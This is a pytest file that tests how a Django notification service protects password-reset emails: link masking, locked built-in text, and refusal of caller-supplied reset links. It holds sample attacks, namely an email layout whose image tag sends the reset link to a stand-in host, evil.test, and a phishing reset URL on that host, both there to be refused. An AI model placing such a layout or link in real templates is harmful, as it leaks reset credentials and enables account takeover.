"""Mails with a credential: a caller who could read or write one could take over its person's account."""

import hashlib
import hmac

import pytest
from django.conf import settings as django_settings
from django.test import Client
from rest_framework.test import APIClient
from rest_framework_simplejwt.tokens import AccessToken

from apps.notifications.acceptance.submission import body_hash
from apps.notifications.channels.email.log import EmailLog
from apps.notifications.models import DeadLetter, Event, Notification
from apps.notifications.password_reset import links
from apps.templates.authoring.versions import add_version
from apps.templates.models import Layout, Template
from apps.users.models import Category, NotificationPreference
from apps.users.models.scopes import ROLE_SCOPES, Role, Scope
from tests.conftest import client_for, settled
from tests.notifications.password_reset.test_password_reset import PUBLIC, ask, public_url  # noqa: F401
from tests.support.factories import EMAIL_EN, UserFactory, template_with
from tests.support.routes import refused

CONTENT = {
    "channel": "email",
    "language": "en",
    "subject": "Ours",
    "text": "Go to {{ link }}, says the shop.",
}
PASSWORD = "correct horse battery"


def account(organization, **fields):
    person = UserFactory(organization=organization, **fields)
    person.set_password(PASSWORD)
    person.save()
    return person


def signed_in(person):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {AccessToken.for_user(person)}")
    return client


def reworded(client, *, variables=(), code="password-reset"):
    body = {"contents": [CONTENT], "variables": list(variables), "activate": True}
    return client.post(f"/api/v1/templates/{code}/versions/", body, format="json")


@pytest.fixture
def member(organization):
    return account(organization, email="ada@example.com")


@pytest.fixture
def root(organization):
    return account(organization, email="root@example.com", is_superuser=True, is_staff=True, role="admin")


@pytest.fixture
def admin(organization):
    return signed_in(account(organization, email="admin@example.com", role="admin"))


@pytest.fixture
def reset_template(member):
    ask()
    Notification.objects.all().delete()
    return Template.objects.get(code="password-reset")


class TestReading:
    def test_a_link_is_hidden_however_the_version_declares_it(self, admin, member, reset_template):
        assert reworded(admin).status_code == 201
        ask()
        sent = Notification.objects.get()
        assert sent.template_version.number == 2
        link = sent.variables["link"]
        assert "password-reset/" in link
        for path in ("/api/v1/notifications/", f"/api/v1/notifications/{sent.pk}/"):
            answer = admin.get(path)
            assert answer.status_code == 200
            assert link not in answer.content.decode()
            assert links.code_for(member).partition(":")[2][:8] not in answer.content.decode()
        assert admin.get(f"/api/v1/notifications/{sent.pk}/").json()["data"]["variables"] == {"link": "•••"}

    @pytest.mark.usefixtures("worker")
    @pytest.mark.parametrize("before", ["", "hxxp:notify.example.com/password-reset/"])
    def test_a_link_that_a_relay_quotes_is_masked(self, before, member, smtp, monkeypatch):
        code = "AZrQ0000:abcdef-0123456789"
        link = f"{PUBLIC}/password-reset/{code}/"
        monkeypatch.setattr(links, "page_for", lambda user: link)
        quoted = f"{before}{code}" if before else link
        smtp.scripts["dot"] = f"554 5.7.1 this looks like phishing: {quoted} go away"
        ask()
        (row,) = settled("failed")
        recorded = str(
            [
                row.error_detail,
                *Event.objects.values_list("data", flat=True),
                *DeadLetter.objects.values_list("detail", flat=True),
            ]
        )
        assert recorded.count(f"this looks like phishing: {before}••• go away") == 3
        assert "abcdef" not in recorded

    def test_a_declared_secret_is_kept_out_of_a_providers_message(self, organization, user):
        from apps.templates.authoring.redaction import redacted, secrets_in

        template = Template.objects.create(organization=organization, code="code", name="Code")
        declared = [{"name": "otp.code", "type": "string", "sensitive": True}]
        content = {**EMAIL_EN, "html": "", "text": "{{ otp.code }} {{ name }}"}
        version = add_version(template=template, contents=[content], variables=declared)
        secrets = secrets_in(version.pk, {"otp": {"code": "493021"}, "name": "Ada"})
        assert redacted("550 what is 493021, Ada?", secrets) == "550 what is •••, Ada?"


class TestWording:
    def test_superusers_and_staff_get_the_built_in_text(self, admin, root, organization, reset_template):
        assert reworded(admin).status_code == 201
        staff = account(organization, email="staff@example.com", is_staff=True)
        for person in (root, staff):
            Notification.objects.all().delete()
            ask(person.email)
            sent = Notification.objects.get()
            assert sent.template_version.template.code == "password-reset.built-in"
            assert {row.parts["subject"] for row in sent.template_version.contents.filter(language="en")} == {
                "Set a new password"
            }

    def test_the_built_in_text_cannot_be_changed(self, admin, root, api):
        ask(root.email)
        path = "/api/v1/templates/password-reset.built-in/"
        for client in (admin, api, signed_in(root)):
            assert reworded(client, code="password-reset.built-in").status_code == 403
            assert client.put(f"{path}draft/", {"contents": [CONTENT]}, format="json").status_code == 403
            assert client.patch(path, {"name": "Mine"}, format="json").status_code == 403
            assert client.delete(path).status_code == 403
        created = api.post(
            "/api/v1/templates/", {"code": "password-reset.built-in", "name": "Mine"}, format="json"
        )
        assert refused(created, 400)["errors"][0]["code"] == "reserved"
        browser = Client()
        browser.force_login(root)
        page = f"/admin/templates/template/{Template.objects.get(code='password-reset.built-in').pk}/"
        assert browser.post(f"{page}change/", {"name": "Mine"}).status_code == 403
        assert browser.post(f"{page}versions/add/", {"_activate": "1"}).status_code == 403

    def test_text_that_was_changed_in_the_database_is_not_sent(self, root, organization):
        ask(root.email)
        template = Template.objects.get(code="password-reset.built-in")
        add_version(template=template, contents=[CONTENT], active=True)
        Notification.objects.all().delete()
        ask(root.email)
        assert (
            Notification.objects.get().template_version.contents.get(language="en").parts["subject"] != "Ours"
        )

    def test_a_key_without_every_scope_does_not_write_it(self, organization, reset_template):
        lacking = sorted(ROLE_SCOPES[Role.ADMIN] - {Scope.USERS_WRITE})
        assert reworded(client_for(organization, scopes=lacking)).status_code == 403
        assert reworded(client_for(organization, scopes=sorted(ROLE_SCOPES[Role.ADMIN]))).status_code == 201

    def test_no_test_key_writes_it(self, organization, reset_template):
        client = client_for(organization, scopes=sorted(ROLE_SCOPES[Role.ADMIN]), live=False)
        path = "/api/v1/templates/password-reset/"
        assert reworded(client).status_code == 403
        assert client.put(f"{path}draft/", {"contents": [CONTENT]}, format="json").status_code == 403
        assert client.post(f"{path}activate/", {"version": 1}, format="json").status_code == 403
        assert client.patch(path, {"name": "Mine"}, format="json").status_code == 403
        assert client.delete(path).status_code == 403
        assert client.get(path).status_code == 200

    def test_it_takes_no_part_that_an_editor_may_change(self, admin, organization, reset_template):
        editor = client_for(organization, scopes=["templates:read", "templates:write"])
        layout = {"name": "brand", "html": '{{ content }}<img src="https://evil.test/?{{ link }}">'}
        assert editor.post("/api/v1/templates/layouts/", layout, format="json").status_code == 201
        partial = {"name": "foot", "text": "{{ link }}", "html": "{{ link }}"}
        assert editor.post("/api/v1/templates/partials/", partial, format="json").status_code == 201
        html = {"channel": "email", "language": "en", "subject": "x", "html": "<p>{{ link }}</p>"}
        for content in (
            {**html, "layout": "brand"},
            {**html, "html": '{% render "foot" %}'},
            {**CONTENT, "text": '{% render "foot" %}'},
        ):
            answer = admin.post(
                "/api/v1/templates/password-reset/versions/", {"contents": [content]}, format="json"
            )
            assert "layout" in refused(answer, 400)["errors"][0]["detail"]

    def test_a_version_of_before_that_takes_one_is_passed_over(self, member, organization, reset_template):
        Layout.objects.create(organization=organization, name="brand", text="{{ content }} {{ link }}")
        other = Template.objects.create(organization=organization, code="other", name="Other")
        version = add_version(template=other, contents=[{**CONTENT, "layout": "brand"}])
        type(version).objects.filter(pk=version.pk).update(template=reset_template, number=9)
        Template.objects.filter(pk=reset_template.pk).update(active_version=version)
        ask()
        sent = Notification.objects.get()
        assert sent.template_version.template.code == "password-reset.built-in"


class TestSending:
    @pytest.mark.parametrize("code", ["password-reset", "password-reset.built-in"])
    @pytest.mark.parametrize("query", ["", "?dry_run=true"])
    def test_callers_do_not_send_it_in_our_name(self, code, query, api, member, root, organization):
        ask(root.email)
        ask(member.email)
        Notification.objects.all().delete()
        body = {
            "user_id": str(root.pk), "template_code": code,
            "variables": {"link": "https://evil.test/password-reset/"},
        }  # fmt: skip
        answer = api.post(f"/api/v1/notifications/{query}", body, format="json")
        assert refused(answer, 400)["errors"][0]["code"] == "reserved"
        batch = api.post("/api/v1/notifications/batch/", {"notifications": [body]}, format="json")
        assert batch.json()["data"]["accepted"] == 0
        assert not Notification.objects.exists()

    def test_no_category_withholds_it(self, admin, member, organization, reset_template):
        assert (
            admin.patch("/api/v1/categories/account/", {"mandatory": False}, format="json").status_code == 400
        )
        answer = admin.patch("/api/v1/categories/account/", {"cap": 1, "cap_window": 3600}, format="json")
        assert refused(answer, 400)["errors"][0]["field"] == "cap"
        offers = Category.objects.create(organization=organization, code="offers", name="Offers")
        NotificationPreference.objects.create(user=member, category=offers, channel="email", enabled=False)
        NotificationPreference.objects.create(user=member, channel="email", enabled=False)
        moved = admin.patch("/api/v1/templates/password-reset/", {"category": "offers"}, format="json")
        assert moved.status_code == 200
        ask()
        (row,) = EmailLog.objects.all()
        assert row.status == "queued"

    def test_nor_is_one_made_that_would(self, admin, organization):
        made = admin.post("/api/v1/categories/", {"code": "account", "name": "Mine"}, format="json")
        assert refused(made, 400)["errors"][0]["field"] == "mandatory"

    def test_no_language_withholds_it(self, member, root, organization):
        organization.default_language = "pl"
        organization.save()
        for person in (member, root):
            ask(person.email)
            sent = Notification.objects.get(user=person)
            assert sent.template_version.template.code == "password-reset.built-in"
            assert EmailLog.objects.get(notification=sent).language == "en"

    def test_nobody_takes_it_back(self, admin, api, member, root, organization, unpublished):
        ask(root.email)
        ask(member.email)
        key = client_for(organization, scopes=["notifications:read", "notifications:write"])
        for sent in Notification.objects.all():
            for client in (key, api, admin, signed_in(root)):
                answer = client.post(f"/api/v1/notifications/{sent.pk}/cancel/")
                refused(answer, 409, "not_cancellable")
        assert {row.status for row in EmailLog.objects.all()} == {"queued"}

    def test_words_that_can_not_carry_it_cost_the_words_alone(self, member, organization, caplog):
        template_with(organization, code="password-reset")
        ask()
        assert Notification.objects.get().template_version.template.code == "password-reset.built-in"
        assert "password_reset_not_sent" in caplog.text


class TestHashes:
    def test_a_bodys_hash_is_keyed(self, settings):
        former_hash = body_hash({"variables": {"code": "493021"}})
        settings.HASH_KEY = "another-key-of-the-same-length-as-before"
        assert body_hash({"variables": {"code": "493021"}}) != former_hash

    def test_hashes_of_before_are_keyed_by_the_migration(self, api, user, version):
        from importlib import import_module

        from django.apps import apps
        from django.db import connection

        body = {
            "template_code": "hello", "variables": {"name": "Ada"}, "request_id": "before",
            "user_id": str(user.pk),
        }  # fmt: skip
        assert api.post("/api/v1/notifications/", body, format="json").status_code == 202
        former_hash = Notification.objects.get().body_hash
        plain = "0" * 64
        Notification.objects.update(body_hash=plain)
        with connection.schema_editor() as editor:
            import_module("apps.notifications.migrations.0002_keyed_body_hash").key_hashes(apps, editor)
        stored = Notification.objects.get().body_hash
        key = django_settings.HASH_KEY.encode()
        assert stored == hmac.new(key, plain.encode(), hashlib.sha256).hexdigest() != former_hash
